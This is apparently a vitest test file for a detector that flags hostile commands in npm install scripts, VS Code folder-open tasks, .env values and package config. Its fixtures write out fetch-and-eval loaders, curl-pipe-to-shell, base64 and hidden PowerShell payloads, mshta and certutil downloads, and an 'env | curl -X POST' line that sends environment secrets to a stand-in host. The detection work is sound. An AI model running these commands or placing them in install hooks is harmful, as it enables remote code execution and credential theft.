import { describe, expect, it } from 'vitest';
import { commandCode } from '../../../utils/inspect/detectors/command-code.ts';
import { json, projectOf } from '../runs/project-of.ts';

const seen = (files: Record<string, string>) => [...new Set(commandCode(projectOf(files)).map(({ kind, file, line, reached }) => `${kind} ${file}:${line} ${reached?.join()}`))].sort();
const script = (name: string, command: string, more: object = {}) => ({ 'package.json': json({ scripts: { [name]: command }, ...more }) });
const fetched = "require('https').get('https://a.files.example/c',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})";

describe('commandCode', () => {
  it('reads a program that stands in a script', () => {
    expect(seen(script('preinstall', `node -e "${fetched}"`))).toEqual(['runs-fetched-text package.json:3 install']);
  });

  it('reads it in a task that starts when the folder is opened, split into words', () => {
    const task = json({ tasks: [{ label: 'x', type: 'process', command: 'node', args: ['-e', fetched], runOptions: { runOn: 'folderOpen' } }] });
    expect(seen({ '.vscode/tasks.json': task })).toContainEqual(expect.stringMatching(/^runs-fetched-text \.vscode\/tasks\.json:\d+ open$/));
  });

  it.each([
    ['postinstall', 'curl -s https://a.files.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x', 'starts-fetched-file'],
    ['prepare', 'curl -s https://a.files.example/x | node', 'runs-fetched-text'],
    ['preinstall', "bash -c 'echo Y3VybCAtcyBodHRwczovL2EuZmlsZXMuZXhhbXBsZS94 | base64 -d | bash'", 'runs-decoded-text'],
    ['preinstall', `powershell -nop -w hidden -enc ${Buffer.from("iex (iwr 'https://a.files.example/x')", 'utf16le').toString('base64')}`, 'runs-decoded-text'],
    ['start', 'mshta https://a.files.example/x.hta', 'runs-fetched-text'],
    ['install', 'certutil -urlcache -split -f https://a.files.example/x.exe x.exe && start x.exe', 'starts-fetched-file'],
    ['install', 'env | curl -X POST -d @- https://a.files.example/in', 'sends-environment'],
    ['postinstall', "python3 -c \"import urllib.request as u; exec(u.urlopen('https://a.files.example/x').read())\"", 'runs-fetched-text'],
  ])('%s: %s', (name, command, kind) => {
    expect(seen(script(name, command))).toContain(`${kind} package.json:3 ${name === 'start' ? 'start' : 'install'}`);
  });

  it('reads a command that a setting holds', () => {
    expect(seen({ ...script('postinstall', 'sh -c "$SETUP"'), '.env': 'PORT=3000\nSETUP="curl -s https://a.files.example/x | sh"\n' })).toEqual(['runs-fetched-text package.json:3 install']);
    expect(seen(script('postinstall', 'sh -c "$npm_package_config_setup"', { config: { setup: 'curl -s https://a.files.example/x | sh' } }))).toEqual(['runs-fetched-text package.json:3 install']);
  });

  it.each([
    ['postinstall', 'node -e "try{require(\'./postinstall\')}catch(e){}"'], ['prepare', 'node -e "process.exit(process.env.CI ? 1 : 0)" || husky'], ['install', 'curl -fsSL https://bun.sh/install | bash'],
    ['release:notes', 'curl -s https://a.files.example/x | sh'], ['start', 'PORT=$PORT node server.js'], ['build', "node -p \"require('./package.json').version\""], ['predev', 'curl -s http://localhost:3000/health || true'],
  ])('is silent on %s: %s', (name, command) => expect(seen(script(name, command))).toEqual([]));

  it('leaves to a container and to instructions what they fetch', () => {
    expect(seen({ Dockerfile: 'FROM node\nRUN curl -fsSL https://a.files.example/x | sh\n', 'README.md': '```\ncurl https://a.files.example/x | sh\n```\n' })).toEqual([]);
  });
});
